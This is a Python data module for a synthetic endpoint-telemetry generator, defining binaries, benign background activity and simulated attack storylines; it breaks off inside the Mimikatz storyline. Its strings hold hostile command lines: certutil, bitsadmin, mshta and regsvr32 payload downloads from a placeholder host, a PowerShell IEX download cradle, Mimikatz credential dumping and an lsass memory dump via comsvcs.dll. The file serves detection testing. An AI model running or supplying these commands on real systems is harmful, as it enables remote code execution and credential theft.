# ruff: noqa: E501 - command lines and paths read best on one line each
"""What the generated endpoints run: binaries (with stable hashes and version info), value pools,
and the scripts that make events — background activity and one attack storyline per alert type.

A script is a list of steps. A ``proc`` step starts a process (its parent is another step of the
same script or a session anchor: ``EXPLORER``, ``SERVICES``, ``SVCHOST``, ``WMI``, ``WINLOGON``,
``USERINIT``, ``OUTLOOK``); other steps are events initiated by one of the script's processes
(``by``). Text templates take ``{placeholders}`` (see :mod:`.build`): ``{user}``, ``{domain}``,
``{host}``, ``{fqdn}``, ``{ip}``, ``{url}``, ``{urlhost}``, ``{file}``, ``{b64}``, ``{lsass}``,
``{pool:NAME}``, ``{n:LO-HI}``, ``{hex:N}``.
"""

from __future__ import annotations

import base64
import hashlib
from dataclasses import dataclass, field

__all__ = [
    "ANCHORS",
    "AUTOLOAD",
    "BACKGROUND",
    "BINARIES",
    "POOLS",
    "STORIES",
    "Binary",
    "Script",
    "Step",
    "encoded_command",
    "story_for",
]

W32 = "C:\\Windows\\System32\\"
MS = "Microsoft Corporation"
MS_WIN = "Microsoft® Windows® Operating System"
MS_SIGNER = "Microsoft Windows"
MS_ISSUER = "Microsoft Windows Production PCA 2011"


@dataclass(frozen=True)
class Binary:
    """An executable or library: where it lives, who made and signed it."""

    name: str
    folder: str
    description: str = ""
    company: str = MS
    product: str = MS_WIN
    version: str = "10.0.22621.1"
    signer: str = MS_SIGNER
    issuer: str = MS_ISSUER
    size: int = 0

    @property
    def key(self) -> str:
        """The lower-case file name steps refer to."""
        return self.name.lower()

    def digest(self, algo: str) -> str:
        """A stable hash of this binary (the same file has the same hash on every machine)."""
        return hashlib.new(algo, f"mdekit-binary:{self.key}:{self.version}".encode()).hexdigest()

    @property
    def file_size(self) -> int:
        """Size in bytes (stable)."""
        return self.size or 20_000 + int(self.digest("md5")[:6], 16) % 4_000_000


def _win(name: str, description: str, folder: str = W32, **kw: str) -> Binary:
    return Binary(name, folder, description, **kw)  # type: ignore[arg-type]


_SYSINTERNALS = {
    "company": "Sysinternals - www.sysinternals.com",
    "product": "Sysinternals",
    "version": "2.34",
    "signer": "Microsoft Corporation",
    "issuer": "Microsoft Code Signing PCA 2011",
}
_OFFICE = {
    "product": "Microsoft Office",
    "version": "16.0.17328.20162",
    "signer": "Microsoft Corporation",
    "issuer": "Microsoft Code Signing PCA 2011",
}
_UNSIGNED = {"company": "", "product": "", "version": "", "signer": "", "issuer": ""}
_OFFICE_DIR = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"

BINARIES: list[Binary] = [
    _win("System", "NT Kernel & System", folder=""),
    _win("smss.exe", "Windows Session Manager"),
    _win("csrss.exe", "Client Server Runtime Process"),
    _win("wininit.exe", "Windows Start-Up Application"),
    _win("winlogon.exe", "Windows Logon Application"),
    _win("services.exe", "Services and Controller app"),
    _win("lsass.exe", "Local Security Authority Process"),
    _win("svchost.exe", "Host Process for Windows Services"),
    _win("userinit.exe", "Userinit Logon Application"),
    _win("explorer.exe", "Windows Explorer", folder="C:\\Windows\\"),
    _win("sihost.exe", "Shell Infrastructure Host"),
    _win("taskhostw.exe", "Host Process for Windows Tasks"),
    _win("RuntimeBroker.exe", "Runtime Broker"),
    _win("dllhost.exe", "COM Surrogate"),
    _win("conhost.exe", "Console Window Host"),
    _win("backgroundTaskHost.exe", "Background Task Host"),
    _win("SearchIndexer.exe", "Microsoft Windows Search Indexer"),
    _win("SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"),
    _win("spoolsv.exe", "Spooler SubSystem App"),
    _win("WmiPrvSE.exe", "WMI Provider Host", folder=W32 + "wbem\\"),
    _win("cmd.exe", "Windows Command Processor"),
    _win("powershell.exe", "Windows PowerShell", folder=W32 + "WindowsPowerShell\\v1.0\\"),
    _win("rundll32.exe", "Windows host process (Rundll32)"),
    _win("regsvr32.exe", "Microsoft(C) Register Server"),
    _win("mshta.exe", "Microsoft (R) HTML Application host"),
    _win("certutil.exe", "CertUtil.exe"),
    _win("bitsadmin.exe", "BITS administration utility"),
    _win("wmic.exe", "WMI Commandline Utility", folder=W32 + "wbem\\"),
    _win("schtasks.exe", "Task Scheduler Configuration Tool"),
    _win("net.exe", "Net Command"),
    _win("net1.exe", "Net Command"),
    _win("whoami.exe", "whoami - displays logged on user information"),
    _win("ipconfig.exe", "IP Configuration Utility"),
    _win("nltest.exe", "Microsoft® Logon Server Test Utility"),
    _win("ping.exe", "TCP/IP Ping Command"),
    _win("tasklist.exe", "Lists the current running tasks."),
    _win("systeminfo.exe", "Displays system information"),
    _win("reg.exe", "Registry Console Tool"),
    _win("vssadmin.exe", "Command Line Interface for Microsoft® Volume Shadow Copy Service"),
    _win("wbadmin.exe", "Command Line Interface for Microsoft® BlockLevel Backup Engine"),
    _win("bcdedit.exe", "Boot Configuration Data Editor"),
    _win("wevtutil.exe", "Eventing Command Line Utility"),
    _win("msiexec.exe", "Windows® installer"),
    _win(
        "MSBuild.exe",
        "MSBuild.exe",
        folder="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\",
        product="Microsoft® .NET Framework",
        version="4.8.9037.0",
    ),
    _win(
        "InstallUtil.exe",
        ".NET Framework installation utility",
        folder="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\",
        product="Microsoft® .NET Framework",
        version="4.8.9037.0",
    ),
    _win("wscript.exe", "Microsoft ® Windows Based Script Host"),
    _win("cscript.exe", "Microsoft ® Console Based Script Host"),
    _win(
        "curl.exe",
        "curl executable",
        company="curl, https://curl.se/",
        product="The curl executable",
        version="8.4.0",
    ),
    _win("ntdsutil.exe", "NT5DS"),
    _win("mmc.exe", "Microsoft Management Console"),
    _win("notepad.exe", "Notepad"),
    _win(
        "MsMpEng.exe",
        "Antimalware Service Executable",
        folder="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\",
        product="Microsoft® Windows® Operating System",
        version="4.18.24090.11",
    ),
    _win(
        "MpCmdRun.exe",
        "Microsoft Malware Protection Command Line Utility",
        folder="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\",
        version="4.18.24090.11",
    ),
    _win("SecurityHealthService.exe", "Windows Security Health Service"),
    _win(
        "msedge.exe",
        "Microsoft Edge",
        folder="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\",
        product="Microsoft Edge",
        version="130.0.2849.68",
        signer="Microsoft Corporation",
        issuer="Microsoft Code Signing PCA 2011",
    ),
    _win("OUTLOOK.EXE", "Microsoft Outlook", folder=_OFFICE_DIR, **_OFFICE),
    _win("WINWORD.EXE", "Microsoft Word", folder=_OFFICE_DIR, **_OFFICE),
    _win("EXCEL.EXE", "Microsoft Excel", folder=_OFFICE_DIR, **_OFFICE),
    _win("POWERPNT.EXE", "Microsoft PowerPoint", folder=_OFFICE_DIR, **_OFFICE),
    _win(
        "ms-teams.exe",
        "Microsoft Teams",
        folder="C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\",
        product="Microsoft Teams",
        version="24295.605.3225.8804",
        signer="Microsoft Corporation",
        issuer="Microsoft Code Signing PCA 2011",
    ),
    _win(
        "OneDrive.exe",
        "Microsoft OneDrive",
        folder="C:\\Program Files\\Microsoft OneDrive\\",
        product="Microsoft OneDrive",
        version="24.201.1006.0005",
        signer="Microsoft Corporation",
        issuer="Microsoft Code Signing PCA 2011",
    ),
    _win("procdump64.exe", "Sysinternals process dump utility", folder="C:\\Tools\\", **_SYSINTERNALS),
    _win("PsExec.exe", "Execute processes remotely", folder="C:\\Tools\\", **_SYSINTERNALS),
    _win("PSEXESVC.exe", "PsExec Service Host", folder="C:\\Windows\\", **_SYSINTERNALS),
    _win(
        "AnyDesk.exe",
        "AnyDesk",
        folder="C:\\Program Files (x86)\\AnyDesk\\",
        company="AnyDesk Software GmbH",
        product="AnyDesk",
        version="8.0.14",
        signer="philandro Software GmbH",
        issuer="DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1",
    ),
    _win(
        "7z.exe",
        "7-Zip Console",
        folder="C:\\Program Files\\7-Zip\\",
        company="Igor Pavlov",
        product="7-Zip",
        version="23.01",
        signer="",
        issuer="",
    ),
    _win(
        "sqlservr.exe",
        "SQL Server Windows NT - 64 Bit",
        folder="C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\",
        product="Microsoft SQL Server",
        version="2022.160.1000.6",
        signer="Microsoft Corporation",
        issuer="Microsoft Code Signing PCA 2011",
    ),
    _win("w3wp.exe", "IIS Worker Process", folder=W32 + "inetsrv\\"),
    # libraries (image loads)
    _win("ntdll.dll", "NT Layer DLL"),
    _win("kernel32.dll", "Windows NT BASE API Client DLL"),
    _win("amsi.dll", "Anti-Malware Scan Interface"),
    _win(
        "clr.dll",
        "Microsoft .NET Runtime Common Language Runtime - WorkStation",
        folder="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\",
        product="Microsoft® .NET Framework",
        version="4.8.9037.0",
    ),
    _win(
        "System.Management.Automation.ni.dll",
        "System.Management.Automation",
        folder="C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\6f2c1dbd6e2f5c6a8a0e0b4e3f2a1b9c\\",
        product="Microsoft (R) Windows (R) Operating System",
        version="10.0.22621.1",
    ),
    _win(
        "VBE7.DLL",
        "Visual Basic for Applications Runtime",
        folder="C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\",
        **_OFFICE,
    ),
    _win("comsvcs.dll", "COM+ Services"),
    _win("dbghelp.dll", "Windows Image Helper"),
    _win("dbgcore.dll", "Windows DbgCore Library"),
    _win("samlib.dll", "SAM Library DLL"),
    _win("vaultcli.dll", "Credential Vault Client Library"),
    _win("wininet.dll", "Internet Extensions for Win32"),
    _win("winhttp.dll", "Windows HTTP Services"),
    _win("scrobj.dll", "Windows ® Script Component Runtime"),
    _win("jscript9.dll", "Microsoft (R) JScript"),
    _win("mshtml.dll", "Microsoft (R) HTML Viewer"),
    # Linux and macOS
    Binary("bash", "/usr/bin/", "GNU Bourne-Again SHell", "", "", "", "", ""),
    Binary("sshd", "/usr/sbin/", "OpenSSH server", "", "", "", "", ""),
    Binary("cron", "/usr/sbin/", "cron daemon", "", "", "", "", ""),
    Binary("systemd", "/usr/lib/systemd/", "systemd", "", "", "", "", ""),
    Binary("python3", "/usr/bin/", "Python", "", "", "", "", ""),
    Binary("curl", "/usr/bin/", "curl", "", "", "", "", ""),
    Binary("apt", "/usr/bin/", "apt", "", "", "", "", ""),
    Binary("launchd", "/sbin/", "launchd", "Apple Inc.", "macOS", "", "Apple Inc.", "Apple Root CA"),
    Binary("zsh", "/bin/", "zsh", "Apple Inc.", "macOS", "", "Apple Inc.", "Apple Root CA"),
    Binary("osascript", "/usr/bin/", "osascript", "Apple Inc.", "macOS", "", "Apple Inc.", "Apple Root CA"),
    # tools attackers bring (unsigned unless the evidence says otherwise)
    _win(
        "rclone.exe",
        "Rsync for cloud storage",
        folder="C:\\Users\\Public\\",
        company="https://rclone.org",
        product="Rclone",
        version="1.65.0",
        signer="",
        issuer="",
    ),
]
_BY_KEY = {b.key: b for b in BINARIES}

#: Session anchors: processes every script may start children from (code -> binary, account kind).
ANCHORS = {
    "SYSTEM": (-1, "system"),
    "SMSS": (-2, "smss.exe"),
    "WININIT": (-3, "wininit.exe"),
    "SERVICES": (-4, "services.exe"),
    "LSASS": (-5, "lsass.exe"),
    "SVCHOST": (-6, "svchost.exe"),
    "WINLOGON": (-7, "winlogon.exe"),
    "WMI": (-8, "wmiprvse.exe"),
    "SPOOLER": (-9, "spoolsv.exe"),
    "USERINIT": (-10, "userinit.exe"),
    "EXPLORER": (-11, "explorer.exe"),
    "OUTLOOK": (-12, "outlook.exe"),
    "SQL": (-13, "sqlservr.exe"),
    "IIS": (-14, "w3wp.exe"),
    "SSHD": (-20, "sshd"),
    "LAUNCHD": (-21, "launchd"),
}

#: Libraries every process of a binary loads (DeviceImageLoadEvents without a script step).
AUTOLOAD = {
    "powershell.exe": ["amsi.dll", "clr.dll", "System.Management.Automation.ni.dll"],
    "winword.exe": ["VBE7.DLL"],
    "excel.exe": ["VBE7.DLL"],
    "mshta.exe": ["mshtml.dll", "jscript9.dll"],
    "wscript.exe": ["jscript9.dll", "amsi.dll"],
    "cscript.exe": ["jscript9.dll", "amsi.dll"],
    "regsvr32.exe": ["scrobj.dll"],
    "msedge.exe": ["winhttp.dll"],
}

POOLS: dict[str, list[str]] = {
    "benign_urls": [
        "www.microsoft.com",
        "login.microsoftonline.com",
        "outlook.office365.com",
        "teams.microsoft.com",
        "www.bing.com",
        "github.com",
        "contoso.sharepoint.com",
        "update.googleapis.com",
        "docs.python.org",
        "en.wikipedia.org",
        "www.linkedin.com",
        "cdn.jsdelivr.net",
        "api.github.com",
        "graph.microsoft.com",
    ],
    "update_urls": [
        "fe3cr.delivery.mp.microsoft.com",
        "slscr.update.microsoft.com",
        "settings-win.data.microsoft.com",
        "v10.events.data.microsoft.com",
        "ctldl.windowsupdate.com",
        "wdcp.microsoft.com",
    ],
    "ms_ips": [
        "20.190.151.9",
        "40.126.32.134",
        "52.113.194.132",
        "13.107.42.14",
        "20.42.65.92",
        "52.96.165.146",
        "13.107.6.171",
        "20.189.173.14",
    ],
    "web_ips": [
        "140.82.121.4",
        "151.101.1.69",
        "104.16.85.20",
        "172.217.16.142",
        "185.199.108.153",
        "13.32.99.12",
    ],
    "documents": [
        "Q3 report.docx",
        "budget 2024.xlsx",
        "meeting notes.docx",
        "roadmap.pptx",
        "invoice_1187.pdf",
        "contract draft.docx",
        "expenses.xlsx",
    ],
    "downloads": [
        "setup.msi",
        "report.pdf",
        "vscode-setup.exe",
        "python-3.12.0-amd64.exe",
        "drivers.zip",
        "statement.pdf",
    ],
    "ps_scripts": [
        "C:\\Scripts\\Inventory.ps1",
        "C:\\Scripts\\Cleanup-TempFiles.ps1",
        "C:\\Scripts\\Get-DiskSpace.ps1",
    ],
    "servers": ["fileserver01", "dc01", "sql01", "print01", "app02"],
    "task_names": [
        "GoogleUpdateTaskMachineUA",
        "OneDrive Standalone Update Task",
        "MicrosoftEdgeUpdateTaskMachineCore",
        "Adobe Acrobat Update Task",
    ],
    "run_values": ["OneDrive", "Teams", "SecurityHealth", "Greenshot"],
    "c2_paths": ["/jquery-3.3.1.min.js", "/pixel.gif", "/api/v2/updates", "/submit.php", "/__utm.gif"],
    "lolbin_cmds": [
        "certutil.exe -urlcache -split -f http://{ip}/update.bin C:\\Users\\Public\\update.exe",
        "bitsadmin /transfer job /download /priority normal http://{ip}/a.ps1 C:\\Users\\Public\\a.ps1",
        "mshta.exe http://{ip}/page.hta",
        "regsvr32.exe /s /n /u /i:http://{ip}/file.sct scrobj.dll",
        'wmic process call create "powershell -nop -w hidden -c calc"',
    ],
    "dns_names": [
        "contoso.local",
        "dc01.contoso.local",
        "fileserver01.contoso.local",
        "login.microsoftonline.com",
        "www.bing.com",
    ],
    "usb_names": ["SanDisk Ultra USB 3.0", "Kingston DataTraveler 3.0", "Samsung Flash Drive"],
}


@dataclass(frozen=True)
class Step:
    """One step of a script: a process start or an event (see the module docstring)."""

    kind: str  # proc | net | file | reg | img | evt | logon
    bin: str = ""  # proc: the binary started; img: the library loaded; file: the binary created (for hashes)
    parent: int | str = "EXPLORER"  # proc: a step index or an anchor name
    by: int | str = 0  # events: the initiating process (a step index or an anchor name)
    cmd: str = ""  # proc: command line
    at: float = 0.0  # seconds after the script's start
    repeat: int = 1
    every: float = 0.0  # seconds between repeats
    jitter: float = 0.0  # up to this many seconds added to each repeat
    account: str = "user"  # proc: user | system | localservice | networkservice
    integrity: str = "Medium"
    evidence: bool = False  # proc: the alert's evidence process (its pid and hashes)
    action: str = ""  # events: ActionType
    fields: dict[str, str] = field(default_factory=dict)  # events: column -> template


@dataclass(frozen=True)
class Script:
    """Steps, and for background scripts: where and how often they run per machine and day."""

    steps: list[Step]
    platform: str = "windows"  # windows | linux | macos
    role: str = "any"  # any | workstation | server
    per_day: float = 1.0  # average runs per machine and day (background only)
    hours: tuple[int, int] = (8, 18)  # local working hours of the runs


def P(bin: str, parent: int | str = "EXPLORER", cmd: str = "", at: float = 0, **kw: object) -> Step:
    """A process step."""
    return Step("proc", bin=bin.lower(), parent=parent, cmd=cmd, at=at, **kw)  # type: ignore[arg-type]


def N(
    by: int | str,
    url: str,
    ip: str,
    port: str = "443",
    at: float = 0,
    action: str = "ConnectionSuccess",
    **kw: object,
) -> Step:
    """A network connection initiated by step/anchor *by*."""
    fields = {"RemoteUrl": url, "RemoteIP": ip, "RemotePort": port, **kw.pop("fields", {})}  # type: ignore[dict-item]
    return Step("net", by=by, at=at, action=action, fields=fields, **kw)  # type: ignore[arg-type]


def F(
    by: int | str,
    folder: str,
    name: str,
    action: str = "FileCreated",
    at: float = 0,
    bin: str = "",
    **kw: object,
) -> Step:
    """A file event."""
    fields = {"FolderPath": folder, "FileName": name, **kw.pop("fields", {})}  # type: ignore[dict-item]
    return Step("file", by=by, at=at, action=action, bin=bin.lower(), fields=fields, **kw)  # type: ignore[arg-type]


def R(
    by: int | str,
    key: str,
    name: str,
    data: str,
    action: str = "RegistryValueSet",
    at: float = 0,
    **kw: object,
) -> Step:
    """A registry event."""
    fields = {
        "RegistryKey": key,
        "RegistryValueName": name,
        "RegistryValueData": data,
        "RegistryValueType": "String",
    }
    return Step("reg", by=by, at=at, action=action, fields=fields, **kw)  # type: ignore[arg-type]


def E(by: int | str, action: str, at: float = 0, **fields: str) -> Step:
    """A DeviceEvents event."""
    return Step("evt", by=by, at=at, action=action, fields=fields)


def L(by: int | str, logon_type: str, action: str = "LogonSuccess", at: float = 0, **fields: str) -> Step:
    """A logon event."""
    return Step("logon", by=by, at=at, action=action, fields={"LogonType": logon_type, **fields})


def I(by: int | str, library: str, at: float = 0) -> Step:  # noqa: E743 - the step kinds read as letters
    """A library (image) load."""
    return Step("img", by=by, at=at, bin=library.lower(), action="ImageLoaded")


USER_DIR = "C:\\Users\\{user}\\"
PUBLIC = "C:\\Users\\Public\\"
RUN_KEY = (
    "HKEY_CURRENT_USER\\S-1-5-21-{hex:8}-{hex:8}-1001\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
)
LM_RUN = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"


def encoded_command(text: str) -> str:
    """PowerShell's -EncodedCommand form of *text* (base64 of UTF-16LE)."""
    return base64.b64encode(text.encode("utf-16-le")).decode()


#: The decoded command behind ``{b64}`` in the PowerShell storyline.
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')"
BENIGN_B64 = encoded_command("Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID,FreeSpace")

BACKGROUND: dict[str, Script] = {
    "browse": Script(
        [
            P("msedge.exe", cmd='"msedge.exe" --profile-directory=Default'),
            N(0, "{pool:benign_urls}", "{pool:web_ips}", repeat=8, every=90, jitter=60),
            N(0, "{pool:benign_urls}", "{pool:ms_ips}", repeat=4, every=300, jitter=120),
            F(
                0,
                USER_DIR + "Downloads\\",
                "{pool:downloads}",
                at=400,
                fields={
                    "FileOriginUrl": "https://{pool:benign_urls}/download/{n:1000-9999}",
                    "FileOriginReferrerUrl": "https://{pool:benign_urls}/",
                },
            ),
        ],
        role="workstation",
        per_day=2.5,
    ),
    "outlook": Script(
        [
            P("OUTLOOK.EXE", cmd='"OUTLOOK.EXE" '),
            N(0, "outlook.office365.com", "{pool:ms_ips}", repeat=6, every=600, jitter=300),
            F(
                0,
                USER_DIR + "AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{hex:8}\\",
                "{pool:documents}",
                at=900,
            ),
        ],
        role="workstation",
        per_day=1.0,
        hours=(8, 10),
    ),
    "office": Script(
        [
            P("WINWORD.EXE", cmd='"WINWORD.EXE" /n "' + USER_DIR + 'Documents\\{pool:documents}"'),
            F(0, USER_DIR + "Documents\\", "{pool:documents}", action="FileModified", at=600),
            N(0, "contoso.sharepoint.com", "{pool:ms_ips}", at=30),
        ],
        role="workstation",
        per_day=1.2,
    ),
    "excel": Script(
        [
            P("EXCEL.EXE", cmd='"EXCEL.EXE" "' + USER_DIR + 'Documents\\budget 2024.xlsx"'),
            F(0, USER_DIR + "Documents\\", "budget 2024.xlsx", action="FileModified", at=420),
        ],
        role="workstation",
        per_day=0.6,
    ),
    "teams": Script(
        [
            P("ms-teams.exe", cmd="ms-teams.exe --system-initiated"),
            N(0, "teams.microsoft.com", "{pool:ms_ips}", repeat=5, every=900, jitter=300),
        ],
        role="workstation",
        per_day=1.0,
        hours=(8, 9),
    ),
    "onedrive": Script(
        [
            P("OneDrive.exe", cmd='"OneDrive.exe" /background'),
            N(0, "contoso-my.sharepoint.com", "{pool:ms_ips}", repeat=3, every=1200),
            R(
                0,
                RUN_KEY,
                "OneDrive",
                '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background',
                at=5,
            ),
        ],
        role="workstation",
        per_day=0.8,
        hours=(8, 9),
    ),
    "update": Script(
        [
            P(
                "svchost.exe",
                parent="SERVICES",
                cmd="C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv",
                account="system",
                integrity="System",
            ),
            N(0, "{pool:update_urls}", "{pool:ms_ips}", repeat=3, every=120, jitter=60),
        ],
        per_day=3.0,
        hours=(0, 24),
    ),
    "tasks": Script(
        [
            P(
                "taskhostw.exe",
                parent="SVCHOST",
                cmd="taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
                account="user",
            ),
            P(
                "backgroundTaskHost.exe",
                parent="SVCHOST",
                cmd='"backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider',
                at=30,
            ),
        ],
        per_day=2.0,
        hours=(0, 24),
    ),
    "defender": Script(
        [
            P(
                "MpCmdRun.exe",
                parent="SERVICES",
                cmd='"MpCmdRun.exe" -wdenable',
                account="system",
                integrity="System",
            ),
            N(0, "wdcp.microsoft.com", "{pool:ms_ips}"),
            E(0, "AntivirusScanCompleted", at=60, AdditionalFields='{{"ScanTypeIndex":"Quick"}}'),
        ],
        per_day=1.0,
        hours=(0, 24),
    ),
    "search": Script(
        [
            P(
                "SearchProtocolHost.exe",
                parent="SERVICES",
                cmd='"SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe',
                account="system",
                integrity="System",
            )
        ],
        per_day=2.0,
        hours=(0, 24),
    ),
    "admin_ipconfig": Script(
        [
            P("cmd.exe", cmd='"C:\\Windows\\system32\\cmd.exe" '),
            P(
                "conhost.exe",
                parent=0,
                cmd="\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                at=0.2,
            ),
            P("ipconfig.exe", parent=0, cmd="ipconfig  /all", at=20),
            P("ping.exe", parent=0, cmd="ping  -n 2 {pool:servers}", at=45),
        ],
        per_day=0.3,
    ),
    "admin_whoami": Script(
        [
            P("cmd.exe", cmd='"C:\\Windows\\system32\\cmd.exe" '),
            P("whoami.exe", parent=0, cmd="whoami ", at=10),
            P("tasklist.exe", parent=0, cmd="tasklist  /v", at=40),
            P("systeminfo.exe", parent=0, cmd="systeminfo ", at=70),
        ],
        per_day=0.15,
    ),
    "admin_net": Script(
        [
            P("cmd.exe", cmd='"C:\\Windows\\system32\\cmd.exe" '),
            P("net.exe", parent=0, cmd="net  use Z: \\\\{pool:servers}\\share", at=15),
            P(
                "net1.exe",
                parent=1,
                cmd="C:\\Windows\\system32\\net1  use Z: \\\\{pool:servers}\\share",
                at=15.1,
            ),
        ],
        per_day=0.2,
    ),
    "ps_admin": Script(
        [
            P("powershell.exe", cmd='"powershell.exe" -ExecutionPolicy Bypass -File {pool:ps_scripts}'),
            E(0, "PowerShellCommand", at=2, AdditionalFields='{{"Command":"Get-CimInstance"}}'),
            P(
                "powershell.exe",
                parent="SVCHOST",
                cmd="powershell.exe -NoProfile -NonInteractive -EncodedCommand " + BENIGN_B64,
                at=3600,
                account="system",
                integrity="System",
            ),
        ],
        per_day=0.3,
    ),
    "mail_link": Script(
        [E("OUTLOOK", "BrowserLaunchedToOpenUrl", RemoteUrl="https://{pool:benign_urls}/news/{n:100-999}")],
        role="workstation",
        per_day=0.8,
    ),
    "smartscreen": Script(
        [
            E("EXPLORER", "SmartScreenUrlWarning", RemoteUrl="http://{pool:benign_urls}.{hex:4}.xyz/"),
            E(
                "EXPLORER",
                "SmartScreenUserOverride",
                at=20,
                RemoteUrl="http://{pool:benign_urls}.{hex:4}.xyz/",
            ),
        ],
        role="workstation",
        per_day=0.05,
    ),
    "listen": Script(
        [N("SVCHOST", "", "", port="0", action="ListeningConnectionCreated")], per_day=0.5, hours=(0, 24)
    ),
    "inbound": Script(
        [N("SVCHOST", "", "10.1.{n:0-3}.{n:2-250}", port="3389", action="InboundConnectionAccepted")],
        role="server",
        per_day=3.0,
        hours=(0, 24),
    ),
    "inbound_sql": Script(
        [N("SQL", "", "10.1.{n:0-3}.{n:2-250}", port="1433", action="InboundConnectionAccepted")],
        role="server",
        per_day=2.0,
        hours=(0, 24),
    ),
    "internet_scan": Script(
        [
            N(
                "SYSTEM",
                "",
                "{pool:web_ips}",
                port="3389",
                action="InboundInternetScanInspected",
                fields={
                    "AdditionalFields": '{{"PublicScannedIp":"{pool:web_ips}","PublicScannedPort":3389}}'
                },
            )
        ],
        role="server",
        per_day=0.3,
        hours=(0, 24),
    ),
    "dns": Script(
        [
            E(
                "SVCHOST",
                "DnsQueryResponse",
                AdditionalFields='{{"DnsQueryString":"{pool:dns_names}","DnsQueryResult":[{{"DnsQueryType":"A"}}]}}',
            )
        ],
        per_day=4.0,
        hours=(0, 24),
    ),
    "logon_net": Script(
        [L("LSASS", "Network", RemoteIP="10.1.{n:0-3}.{n:2-250}", Protocol="Kerberos")],
        per_day=2.0,
        hours=(0, 24),
    ),
    "logon_fail": Script(
        [
            L(
                "LSASS",
                "Network",
                action="LogonFailed",
                FailureReason="InvalidUserNameOrPassword",
                RemoteIP="10.1.{n:0-3}.{n:2-250}",
                Protocol="NTLM",
            )
        ],
        per_day=0.3,
        hours=(0, 24),
    ),
    "smb": Script([N("SYSTEM", "", "10.1.0.{n:10-40}", port="445")], per_day=2.0),
    "usb": Script(
        [
            E(
                "SYSTEM",
                "UsbDriveMounted",
                AdditionalFields='{{"ProductName":"{pool:usb_names}","DriveLetter":"E:"}}',
            ),
            E(
                "SYSTEM",
                "PnpDeviceConnected",
                AdditionalFields='{{"ClassName":"USB","DeviceDescription":"{pool:usb_names}","VendorIds":"USB\\\\VID_0781"}}',
            ),
        ],
        role="workstation",
        per_day=0.1,
    ),
    "schtask": Script(
        [
            P(
                "schtasks.exe",
                parent="SVCHOST",
                cmd='schtasks.exe /run /tn "{pool:task_names}"',
                account="system",
                integrity="System",
            ),
            E("SVCHOST", "ScheduledTaskUpdated", AdditionalFields='{{"TaskName":"\\\\{pool:task_names}"}}'),
        ],
        per_day=0.5,
        hours=(0, 24),
    ),
    "sql": Script(
        [
            P(
                "cmd.exe",
                parent="SQL",
                cmd='cmd.exe /c "sqlcmd -Q \\"BACKUP DATABASE Sales TO DISK=\'D:\\Backup\\sales.bak\'\\""',
                account="networkservice",
                integrity="High",
            )
        ],
        role="server",
        per_day=0.5,
    ),
    "linux_cron": Script(
        [
            P("bash", parent="SSHD", cmd="/bin/bash -c /usr/local/bin/backup.sh", account="root"),
            N(0, "archive.ubuntu.com", "{pool:web_ips}", port="80"),
        ],
        platform="linux",
        per_day=4.0,
        hours=(0, 24),
    ),
    "linux_ssh": Script(
        [L("SSHD", "Network", Protocol="SSH", RemoteIP="10.1.{n:0-3}.{n:2-250}")],
        platform="linux",
        per_day=3.0,
        hours=(0, 24),
    ),
    "mac_shell": Script(
        [
            P("zsh", parent="LAUNCHD", cmd="/bin/zsh -l"),
            N(0, "{pool:benign_urls}", "{pool:web_ips}", repeat=3, every=300),
        ],
        platform="macos",
        per_day=2.0,
    ),
}

#: One storyline per alert type (by the Defender seed's alert titles); ``{ip}``/``{url}``/``{file}``
#: come from the alert's evidence. Each ends with (or contains) the evidence process.
STORIES: dict[str, Script] = {
    "Suspicious PowerShell command line": Script(
        [
            P("cmd.exe", cmd='"cmd.exe" /c powershell -nop -w hidden -enc {b64}'),
            P("powershell.exe", parent=0, cmd="powershell  -nop -w hidden -enc {b64}", at=1, evidence=True),
            N(1, "{urlhost}", "{ip}", port="80", at=3),
            E(1, "PowerShellCommand", at=2, AdditionalFields='{{"Command":"Invoke-Expression"}}'),
            I(1, "wininet.dll", at=2),
            P("whoami.exe", parent=1, cmd='"whoami.exe" /all', at=20),
            P("net.exe", parent=1, cmd='"net.exe" group "domain admins" /domain', at=25),
            F(1, "C:\\Users\\{user}\\AppData\\Local\\Temp\\", "{file}", at=5),
        ]
    ),
    "Mimikatz credential theft tool": Script(
        [
            P("cmd.exe", cmd='"cmd.exe" '),
            F(0, "C:\\Users\\{user}\\Downloads\\", "{file}", at=-30),
            P(
                "{file}",
                parent=0,
                cmd='{file} "privilege::debug" "sekurlsa::logonpasswords" exit',
                at=10,
                evidence=True,
                integrity="High",
            ),
            E(
                2,
                "OpenProcessApiCall",
                at=11,
                FileName="lsass.exe",
                FolderPath="C:\\Windows\\System32\\lsass.exe",
                AdditionalFields='{{"DesiredAccess":"0x1010"}}',
            ),
            I(2, "samlib.dll", at=10.5),
            I(2, "vaultcli.dll", at=10.6),
            P(
                "rundll32.exe",
                parent=0,
                cmd="rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass} C:\\Users\\Public\\lsass.dmp full",
                at=60,
                integrity="High",
            ),
